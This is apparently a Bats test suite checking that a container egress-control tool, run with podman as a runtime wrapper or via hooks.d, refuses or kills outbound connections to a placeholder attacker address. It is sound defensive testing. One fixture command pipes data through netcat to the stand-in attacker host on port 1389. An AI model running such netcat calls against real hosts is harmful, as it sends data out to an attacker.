#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# podman: with the wrapper as its runtime, and with its own hooks.d.

load story
# shellcheck source=tests/harness/engine_podman.sh
source "$E2E_DIR/../harness/engine_podman.sh"

setup_file() {
  story_open
  podman_open "$ROOTFS"
}
teardown_file() { story_close; }
setup() { attacker_forget_packets; }
teardown() {
  rm -f "$PODMAN_DIR"/hooks.d/*
  podman_remove_all
  story_quiet
}

# hooks_d: this service's hooks as examples/podman has them.
hooks_d() {
  local file
  for file in "$REPO_DIR"/examples/podman/hooks.d/*.json; do
    jq --arg hook "$HOOK" --arg svc "$SVC" \
      --arg bpf "$SCRATCH/bpffs/${SVC##*/}" '
      .hook.path = $hook
      | .hook.args += ["--run-dir", $svc + "/run",
          "--state-dir", $svc + "/state", "--bpf-dir", $bpf]' \
      "$file" >"$PODMAN_DIR/hooks.d/${file##*/}"
  done
}

wrapped() {
  runtime_script "$SVC/bailiff-runc" "$SVC/bailiff.yaml"
  podman_run --runtime "$SVC/bailiff-runc" -- \
    --network "ns:$SCRATCH/netns/inside" "$@"
}
hooked() { podman_run -- --network "ns:$SCRATCH/netns/inside" "$@"; }

# refuses START: a container started with it is protected, and exec'ed
# processes are.
refuses() {
  mapfile -d '' -t command < <(connects_to "$ATTACKER4")
  run "$1" --rm registry.example/shop:1.4 "${command[@]}"
  says "Operation not permitted"
  mapfile -d '' -t command < <(connects_to "$HARMLESS4")
  run "$1" --rm registry.example/shop:1.4 "${command[@]}"
  says reached
  (($(attacker_packets) == 0))
  event "$C2_RULE" '.bailiff.verdict == "denied"'
}

# kills START: and of what was killed nothing is left.
kills() {
  local id
  id=$("$1" --detach --name shop registry.example/shop:1.4 sh -c \
    "echo hello | nc -w 3 $ATTACKER4 1389; sleep 60")
  event "$C2_RULE" ".bailiff.policy == \"$BLOCK_POLICY\"
    and .bailiff.outcome == \"killed\"
    and .bailiff.container.id == \"$id\"
    and .bailiff.container.name == \"shop\""
  wait_until 10 "its end" cgroup_empty "$RUN_NAME/podman/libpod-$id"
  (($(attacker_packets) == 0))
  podman_cli rm --force --time 0 shop
  nothing_left_of "$id"
}

@test "podman --runtime: refused, and what is not listed reached" {
  service "$REFUSE_POLICY"
  refuses wrapped
}

@test "podman --runtime: killed" {
  service "$KILL_POLICY"
  kills wrapped
}

@test "podman --runtime: exec is covered" {
  service "$REFUSE_POLICY"
  wrapped --detach --name entered registry.example/shop:1.4 sleep 100
  mapfile -d '' -t command < <(connects_to "$ATTACKER4")
  run podman_cli --runtime "$SVC/bailiff-runc" exec entered "${command[@]}"
  says "Operation not permitted"
}

@test "podman --runtime: a container that cannot be protected does not start" {
  service "$REFUSE_POLICY"
  service_stop
  truncate --size=-9 "$SVC/state/policy.bin"
  run wrapped --rm registry.example/shop:1.4 echo alive
  ((status != 0))
  [[ $output != *alive* ]]
  says policy.bin
}

@test "hooks.d: refused, and what is not listed reached" {
  service "$REFUSE_POLICY"
  hooks_d
  refuses hooked
}

@test "hooks.d: killed" {
  service "$KILL_POLICY"
  hooks_d
  kills hooked
}
